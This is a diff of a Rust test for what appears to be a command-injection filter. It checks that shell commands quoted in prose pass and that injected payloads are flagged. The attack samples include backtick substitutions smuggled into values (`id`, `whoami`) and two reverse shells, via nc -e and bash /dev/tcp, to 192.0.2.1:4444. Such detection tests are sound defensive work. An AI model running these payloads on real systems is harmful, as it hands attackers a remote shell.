@@ -13,6 +13,7 @@ pub mod decode;
 pub mod fold;
 pub mod inputs;
 pub mod policy;
+mod quoted_code;
 pub mod rules;
 pub mod structural;
 
@@ -684,6 +685,36 @@ mod tests {
                 verdict.score >= 5 && verdict.findings.iter().any(|f| f.rule == rule),
                 "{value}: {verdict:?}"
             );
+        }
+    }
+
+    /// Commands quoted as Markdown code in prose pass; substitutions that stand against what
+    /// they are injected into, bare code probes and reverse shells are still blocked.
+    #[test]
+    fn code_quoted_in_prose_is_text_and_injected_substitutions_are_not() {
+        let filter = AttackFilter::new();
+        for prose in [
+            "How do I run `ls -la` in a folder?",
+            "Use `cat file.txt` and `echo $HOME` to check, then `ping -c 4 8.8.8.8`.",
+            "My script:\n```bash\n#!/bin/bash\ncurl -X POST https://x.example/v1\nnode server.js\n```\nIt fails.",
+            "The caveat: start `docker run -it ubuntu:latest /bin/bash` first, then paste.",
+        ] {
+            let verdict = verdict(&filter, prose);
+            assert!(verdict.score < 5, "{prose}: {verdict:?}");
+        }
+        for attack in [
+            "`id`",
+            "127.0.0.1`id`",
+            "127.0.0.1 `id`",
+            "x;`whoami`",
+            "\"`id`\"",
+            "foo`sleep 5`bar",
+            "test `ping -c 10 127.0.0.1`",
+            "hello there `nc -e /bin/sh 192.0.2.1 4444` friend",
+            "so now `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` please",
+        ] {
+            let verdict = verdict(&filter, attack);
+            assert!(verdict.score >= 5, "{attack}: {verdict:?}");
         }
     }
 
